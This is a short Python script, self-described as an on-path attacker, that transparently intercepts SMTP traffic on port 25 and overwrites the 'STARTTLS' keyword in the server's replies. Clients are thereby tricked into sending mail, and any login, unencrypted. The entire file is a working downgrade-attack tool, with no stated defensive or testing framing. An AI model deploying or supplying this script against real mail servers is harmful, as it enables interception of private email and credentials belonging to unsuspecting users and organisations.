"""An attacker on the way: passes SMTP on and takes STARTTLS out of what the server offers.

strip.py ADDRESS: connections to ADDRESS:25 end here (the routing of this host sees to it), and go on
from here to the true owner of that address.
"""
import socket
import sys
import threading

IP_TRANSPARENT = 19


def pass_on(source, target, strip):
    """Copies until the end; same length, so that nothing else changes."""
    try:
        while data := source.recv(65536):
            target.sendall(data.replace(b"STARTTLS", b"XXXXXXXX") if strip else data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def main(address):
    with socket.socket() as listener:
        listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        listener.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        listener.bind((address, 25))
        listener.listen(50)
        print("strips", flush=True)
        while True:
            client, _ = listener.accept()
            server = socket.create_connection((address, 25))
            for words in ((client, server, False), (server, client, True)):
                threading.Thread(target=pass_on, args=words, daemon=True).start()


main(sys.argv[1])
